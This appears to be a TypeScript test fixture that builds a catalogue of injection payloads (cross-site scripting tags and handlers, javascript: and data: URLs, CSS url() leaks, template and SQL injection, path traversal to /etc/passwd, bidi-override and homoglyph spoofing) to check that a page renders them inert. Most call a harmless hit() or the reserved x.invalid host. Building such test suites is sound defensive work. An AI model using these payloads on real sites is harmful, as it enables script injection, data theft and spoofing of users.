/**
 * Text that is harmless as text and something else to a page that takes it for markup, address, style or script. Each calls `hit()`
 * or asks `x.invalid`, so that one that works is noticed; `.invalid` is nobody's (RFC 2606).
 */
const call = (n: number): string => `hit(${n})`;

const tags = [
  'svg',
  'img src=x',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'iframe',
  'math',
  'marquee',
];
const events = [
  'onload',
  'onerror',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbegin',
  'onloadstart',
  'onscroll',
];

/** Any event on any tag, in three ways of writing. */
const handlers = tags.flatMap((tag, i) =>
  events.map((event, j) => {
    const n = i * events.length + j;
    return (
      [`<${tag} ${event}=${call(n)}>`, `"><${tag} ${event}="${call(n)}"//`, `</p><${tag}/${event}='${call(n)}'>`][
        n % 3
      ] ?? ''
    );
  }),
);

const scripts = [
  '<script>hit(1)</script>',
  '<script src=//x.invalid/a.js></script>',
  '<script type=module>import "//x.invalid/m.js"</script>',
  '<script>import("//x.invalid/d.js")</script>',
  '<ScRiPt>hit(2)</sCrIpT>',
  '<script/x>hit(3)</script>',
  '<script >hit(4)</script >',
  '</script><script>hit(5)</script>',
  '</title><script>hit(6)</script>',
  '</textarea><script>hit(7)</script>',
  '</style><script>hit(8)</script>',
  '--><script>hit(9)</script>',
  ']]><script>hit(10)</script>',
  '<!--><script>hit(11)</script>',
  '<noscript><p title="</noscript><img src=x onerror=hit(12)>">',
  '<template><script>hit(13)</script></template>',
  '<svg><script>hit(14)</script></svg>',
  '<svg><script href=//x.invalid/s.js></script></svg>',
  '<math><mtext><script>hit(15)</script></mtext></math>',
  '<xmp><script>hit(16)</script></xmp>',
  '<scr<script>ipt>hit(17)</script>',
  '%3Cscript%3Ehit(18)%3C/script%3E',
  '&lt;script&gt;hit(19)&lt;/script&gt;',
  '&#60;script&#62;hit(20)&#60;/script&#62;',
  '\\u003cscript\\u003ehit(21)\\u003c/script\\u003e',
  '\\x3cscript\\x3ehit(22)\\x3c/script\\x3e',
  '＜script＞hit(23)＜/script＞',
];

const addresses = [
  'javascript:hit(30)',
  'JaVaScRiPt:hit(31)',
  'javascript://x%0ahit(32)',
  ' javascript:hit(33)',
  'javascript&colon;hit(34)',
  'data:text/html,<script>hit(35)</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoMzYpPC9zY3JpcHQ+',
  'vbscript:hit(37)',
  'blob:http://x.invalid/38',
  '//x.invalid/39',
  'https://x.invalid/40',
  'http://x.invalid:80\\@localhost/41',
  '<a href=javascript:hit(42)>42</a>',
  '<a href="java&#9;script:hit(43)">43</a>',
  '<a href=//x.invalid ping=//x.invalid/44>44</a>',
  '[link](javascript:hit(45))',
  '![image](https://x.invalid/46.png)',
  '<https://x.invalid/47>',
  '<base href=//x.invalid/>',
  '<form action=//x.invalid/48><button>ok</button></form>',
  '<button formaction=javascript:hit(49)>49</button>',
  '<iframe src=javascript:hit(50)></iframe>',
  '<iframe srcdoc="<script>parent.hit(51)</script>"></iframe>',
  '<object data=//x.invalid/52></object>',
  '<embed src=//x.invalid/53>',
  '<frameset><frame src=//x.invalid/54></frameset>',
  '<link rel=stylesheet href=//x.invalid/55.css>',
  '<link rel=prefetch href=//x.invalid/56>',
  '<link rel=dns-prefetch href=//x.invalid>',
  '<meta http-equiv=refresh content="0;url=//x.invalid/57">',
  '<img src=//x.invalid/58.png>',
  '<img srcset="//x.invalid/59.png 2x">',
  '<picture><source srcset=//x.invalid/60><img></picture>',
  '<video poster=//x.invalid/61></video>',
  '<audio src=//x.invalid/62 autoplay></audio>',
  '<track src=//x.invalid/63>',
  '<table background=//x.invalid/64><tr><td>64</table>',
  '<portal src=//x.invalid/65></portal>',
];

const vectors = [
  '<svg><animate onbegin=hit(70) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:hit(71)>',
  '<svg><a xlink:href=javascript:hit(72)><text y=20>72</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit(73)>#x">',
  '<svg><image href=//x.invalid/74.png>',
  '<svg><foreignObject><img src=x onerror=hit(75)></foreignObject></svg>',
  '<svg><style>@import "//x.invalid/76.css"</style></svg>',
  '<svg><desc></svg><img src=x onerror=hit(77)>',
  '<math><mi xlink:href=javascript:hit(78)>78</mi></math>',
  '<math><annotation-xml encoding=text/html><img src=x onerror=hit(79)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(80)>',
  '<table><td><svg></table><img src=x onerror=hit(81)>',
  '<select><style></select><img src=x onerror=hit(82)></style>',
  '<p id="</p><img src=x onerror=hit(83)>">',
  '<custom-element onclick=hit(84) is=x>84</custom-element>',
  '<img name=getElementById><img name=cookie><form id=forms>',
  '<a id=config><a id=config name=url href=//x.invalid/85>',
];

const styles = [
  '<style>*{background:url(//x.invalid/90)}</style>',
  '<style>@import url(//x.invalid/91.css);</style>',
  '<style>@font-face{font-family:x;src:url(//x.invalid/92)}*{font-family:x}</style>',
  '<style>input[value^=a]{background:url(//x.invalid/93)}</style>',
  '<p style="background:url(//x.invalid/94)">',
  '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again',
  'x:expression(hit(95))',
  '}</style><img src=x onerror=hit(96)>',
  'red;background:url(//x.invalid/97)',
  '"style="background:url(//x.invalid/98)',
];

const programs = [
  '{{constructor.constructor("hit(100)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to be taken for one
  '${hit(101)}',
  '#{hit(102)}',
  '<%= hit(103) %>',
  '{% raw %}hit(104)',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"hit":105}}',
  '{"$$typeof":"x","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"hit(106)"}}}',
  '";hit(107);//',
  "';hit(108);//",
  '`;hit(109);`',
  '</script><svg/onload=hit(110)>',
  '*/hit(111)/*',
  '=HYPERLINK("//x.invalid/112")',
  '@SUM(1+1)*cmd|x',
  '+1-1',
  '-1+1',
  '{count, plural, one {<b>x</b>} other {hit(113)}}',
  "{name} '{' <b>{name}</b>",
  '%s %d %n %x',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  "' OR 1=1 --",
  '"; DROP TABLE entry; --',
  '* NEAR/2 "',
  'title:* OR 1',
];

/** Text that looks like another: overrides, isolates that never close, invisible letters, letters of another alphabet. */
const turned = [
  'invoice\u202Efdp.exe',
  '\u202Egnorts\u202C strong',
  'a\u202Db\u202Cc',
  '\u2066isolated without end',
  '\u2067right to left without end',
  '\u2068first strong without end',
  '\u202Aembedded left',
  '\u202Bembedded right',
  'Rome\u200F 12/34',
  'name\u061C 5',
  '\u202E<img src=x onerror=hit(120)>',
  'pop\u2069\u2069\u2069 what was not opened',
];

const confusable = [
  'Мinistero dell’Interno', // the first letter is Cyrillic
  'ｇｍｍｐ．ｍａ－ｉｔ',
  'it\u2011moi',
  'admin\u200Bistrator',
  'a\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(6),
  '\uFEFFstarts with a mark',
  '\u{1F1EE}\u{1F1F9}\u{E0067}\u{E007F}',
  '\u{1D4D0}\u{1D4D1}\u{1D4D2}',
  '<\u00ADscript>hit(121)</script>',
  '\u1680\u2003 wide spaces',
];

export const payloads: readonly string[] = [
  ...new Set([...handlers, ...scripts, ...addresses, ...vectors, ...styles, ...programs, ...turned, ...confusable]),
];

/** Joined to texts of at most `most` units, each payload whole and in one of them. */
export function batches(most: number, between: string): readonly string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter((one) => one.length <= most)) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + between.length + payload.length <= most)
      texts[texts.length - 1] = `${last}${between}${payload}`;
    else texts.push(payload);
  }
  return texts;
}
